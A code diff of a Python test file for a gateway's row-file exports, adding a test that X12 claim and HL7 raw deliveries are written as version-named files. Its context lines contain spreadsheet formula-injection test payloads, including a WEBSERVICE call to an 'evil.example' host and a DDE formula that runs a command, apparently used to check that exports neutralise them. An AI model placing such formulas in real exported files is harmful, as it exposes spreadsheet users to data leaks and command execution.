@@ -8,8 +8,8 @@ import msgspec
 import pytest
 
 from gateway.model import TYPES
-from gateway.model.exchange import Delivery, Dispatch
-from gateway.transport.row_files import ENVELOPE, by_type, columns_of, compose, ndjson, plain, spreadsheet
+from gateway.model.exchange import Delivery, Dispatch, Raw
+from gateway.transport.row_files import ENVELOPE, by_type, columns_of, compose, ndjson, plain, raw_files, spreadsheet
 
 STARTS = (
     "=",
@@ -37,6 +37,7 @@ BODIES = (
     'WEBSERVICE("https://evil.example/")',
     'DDE("cmd";"/C calc";"x")',
 )
+ISA = "ISA*00*          *00*          *ZZ*SENDER         *ZZ*RECEIVER       *260714*0930*^*00501*000000101*0*T*:~"
 PAYLOADS = [start + body for start, body in itertools.product(STARTS, BODIES)]
 
 
@@ -139,3 +140,18 @@ def test_types_keep_their_order_apart() -> None:
     rows = (delivery("Payer", key="1"), delivery("Slot", key="2"), delivery("Payer", key="3"))
     found = by_type(Dispatch(id="d", route="r", deliveries=rows))
     assert {name: [row.key for row in rows] for name, rows in found.items()} == {"Payer": ["1", "3"], "Slot": ["2"]}
+
+
+def test_what_was_received_is_a_file_named_by_version() -> None:
+    """X12 becomes an interchange, anything else its own bytes; a delivery without it has no such file."""
+    x12 = Raw("835 claim", b"CLP*A*1*1*1~", f"{ISA}GS*HP*S*R*20260714*0930*7*X*V~ST*835*1~".encode())
+    rows = (
+        delivery(key="a"), delivery("ClaimPayment", key="b", raw=(x12,)),
+        delivery("Patient", key="c", version=3, raw=(Raw("ADT^A08", b"MSH|", b""),)),
+    )  # fmt: skip
+    found = dict(raw_files(Dispatch(id="d1", route="feed", deliveries=rows)))
+    assert {key: file.name for key, file in found.items()} == {
+        "b": "ClaimPayment-0198f3a2-0001-1.x12", "c": "Patient-0198f3a2-0001-3.raw"
+    }  # fmt: skip
+    assert found["b"].body.endswith(b"ST*835*1~LX*1~CLP*A*1*1*1~SE*4*1~GE*1*7~IEA*1*000000101~")
+    assert found["c"].body == b"MSH|"
